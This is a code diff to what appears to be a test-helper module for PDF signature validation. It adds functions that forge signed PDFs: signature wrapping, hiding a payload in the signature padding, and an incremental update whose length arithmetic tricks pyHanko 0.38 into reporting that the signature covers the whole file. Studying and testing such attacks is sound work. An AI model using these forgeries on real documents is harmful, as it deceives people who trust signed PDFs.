@@ -16,6 +16,7 @@ from dataclasses import dataclass
 from io import BytesIO
 
 import pikepdf
+from asn1crypto import parser as asn1_parser
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.generic import pdf_name
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
@@ -219,11 +220,15 @@ def add_annotation(pdf: bytes, page: int, text: str) -> bytes:
 # --- raw appends (no xref) and hand-written xref sections -------------------------------
 
 
-def stream_object(number: int, data: bytes, extra: bytes = b"") -> bytes:
-    """The text of an indirect stream object (FlateDecode)."""
-    packed = zlib.compress(data)
-    return (b"%d 0 obj\n<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (
-        number, len(packed), extra) + packed + b"\nendstream\nendobj\n")
+def stream_object(number: int, data: bytes, *, ascii_hex: bool = False) -> bytes:
+    """The text of an indirect stream object: FlateDecode, or ASCIIHexDecode when it must
+    hold no parentheses or backslashes (to sit inside a PDF literal string)."""
+    if ascii_hex:
+        packed, name = data.hex().encode("ascii") + b">", b"/ASCIIHexDecode"
+    else:
+        packed, name = zlib.compress(data), b"/FlateDecode"
+    return (b"%d 0 obj\n<< /Length %d /Filter %s >>\nstream\n" % (number, len(packed), name)
+            + packed + b"\nendstream\nendobj\n")
 
 
 def trailer_of(pdf: bytes) -> generic.DictionaryObject:
@@ -234,22 +239,29 @@ def startxref_of(pdf: bytes) -> int:
     return int(pdf[pdf.rindex(b"startxref"):].split()[1])
 
 
-def xref_only_update(pdf: bytes, entries: dict[int, int], objects: bytes = b"") -> bytes:
+def xref_only_update(pdf: bytes, entries: dict[int, int], objects: bytes = b"", *,
+                     trailer_from: bytes | None = None, prev: int | None = None,
+                     root: int | None = None) -> bytes:
     """A hand-written revision: `objects` (raw text, may be empty), then an xref section
-    mapping object numbers to byte offsets (anywhere in the result), then the trailer."""
-    trailer = trailer_of(pdf)
-    prev = startxref_of(pdf)
+    mapping object numbers to byte offsets (anywhere in the result), then the trailer.
+
+    The trailer copies /Size, /Root, /Info and /ID from `trailer_from` (default `pdf`);
+    /Prev is `prev` (default: `pdf`'s startxref); `root` replaces the catalog's number.
+    """
+    template = pdf if trailer_from is None else trailer_from
+    trailer = trailer_of(template)
+    prev = startxref_of(template) if prev is None else prev
     text = b"xref\n"
     for number, offset in sorted(entries.items()):
         text += b"%d 1\n%010d 00000 n \n" % (number, offset)
-    size = int(trailer["/Size"])
-    root = trailer.raw_get("/Root")
-    info = trailer.raw_get("/Info") if "/Info" in trailer else None
-    ids = trailer["/ID"]
-    text += b"trailer\n<< /Size %d /Root %d %d R " % (
-        size, root.idnum, root.generation)
-    if info is not None:
+    size = max(int(trailer["/Size"]), *(n + 1 for n in entries))
+    catalog = trailer.raw_get("/Root")
+    root_ref = (catalog.idnum, catalog.generation) if root is None else (root, 0)
+    text += b"trailer\n<< /Size %d /Root %d %d R " % (size, *root_ref)
+    if "/Info" in trailer:
+        info = trailer.raw_get("/Info")
         text += b"/Info %d %d R " % (info.idnum, info.generation)
+    ids = trailer["/ID"]
     text += b"/ID [<%s> <%s>] /Prev %d >>\n" % (
         ids[0].original_bytes.hex().encode(), ids[1].original_bytes.hex().encode(), prev)
     body = (pdf if pdf.endswith(b"\n") else pdf + b"\n") + objects
@@ -270,3 +282,77 @@ def signature_object(pdf: bytes) -> tuple[int, int, int]:
     number = int(pdf[start:head].split()[0])
     end = pdf.index(b"endobj", lay.start2) + len(b"endobj")
     return number, start, end
+
+
+def der_hex(pdf: bytes) -> bytes:
+    """The signature's DER value as hex, without the zero padding."""
+    start, end = layout(pdf).gap
+    contents = bytes.fromhex(pdf[start + 1:end - 1].decode("ascii"))
+    _, _, _, header, body, trailer = asn1_parser.parse(contents)
+    return contents[: len(header) + len(body) + len(trailer)].hex().upper().encode("ascii")
+
+
+def content_object(pdf: bytes, page: int) -> tuple[int, bytes]:
+    """(object number, decoded data) of a page's single content stream."""
+    with pikepdf.open(BytesIO(pdf)) as doc:
+        contents = doc.pages[page].obj.Contents
+        return contents.objgen[0], contents.read_bytes()
+
+
+# --- signature wrapping ---------------------------------------------------------------------
+
+
+def relocate(pdf: bytes, inserted: bytes, *, rewrite_byterange: bool) -> tuple[bytes, int]:
+    """SWA: `inserted` put between the signature value and the second signed part, which
+    moves down; with `rewrite_byterange` the /ByteRange (inside that part) is changed to
+    point at its new place. Returns the file (without the original trailing bytes after
+    the signed range) and the offset of `inserted`."""
+    lay = layout(pdf)
+    end = lay.gap[1]
+    second = pdf[end:lay.end]
+    if rewrite_byterange:
+        values = b"[0 %d %d %d]" % (lay.len1, lay.start2 + len(inserted), lay.len2)
+        at = lay.byterange_at - end
+        second = second[:at] + values.ljust(lay.byterange_width) + second[
+            at + lay.byterange_width:]
+    return pdf[:end] + inserted + second + pdf[lay.end:], end
+
+
+def stuff_gap(pdf: bytes, payload: bytes) -> tuple[bytes, int]:
+    """The signature value shrunk to its DER, `payload` hidden after it inside the
+    signature dictionary as a string (``<DER> /Pad (payload)``): same length, same signed
+    bytes. Returns the file and the offset of `payload`."""
+    start, end = layout(pdf).gap
+    head = b"<" + der_hex(pdf) + b"> /Pad ("
+    gap = head + payload + b")"
+    if len(gap) > end - start:
+        raise ValueError("payload does not fit in the signature's padding")
+    return with_contents(pdf, gap.ljust(end - start)), start + len(head)
+
+
+def override_signature(signed: bytes, modified: bytes) -> bytes:
+    """`modified` (= `signed` plus updates) with one more update that redefines the
+    signature dictionary: same /ByteRange, but /Contents a literal string holding the DER
+    followed by filler sized so that ``len(file) == len1 + len2 + 2 * len(Contents) + 2``,
+    the arithmetic by which pyHanko 0.38 declares a signature to cover the entire file."""
+    lay = layout(signed)
+    number, start, end = signature_object(signed)
+    gap_start, gap_end = lay.gap
+    der = bytes.fromhex(der_hex(signed).decode("ascii"))
+    head, tail = signed[start:gap_start], signed[gap_end:end]
+    offset = len(modified) + (0 if modified.endswith(b"\n") else 1)
+    pad = 0
+    for _ in range(8):
+        contents = der + b"A" * pad
+        body = head + literal(contents) + tail + b"\n"
+        forged = xref_only_update(modified, {number: offset}, body)
+        excess = len(forged) - (lay.len1 + lay.len2 + 2 * len(contents) + 2)
+        if excess == 0:
+            return forged
+        pad += excess
+    raise AssertionError("padding did not converge")
+
+
+def object_offset(pdf: bytes, number: int) -> int:
+    """Offset of the last definition of object `number` in the file's text."""
+    return pdf.rindex(b"\n%d 0 obj" % number) + 1
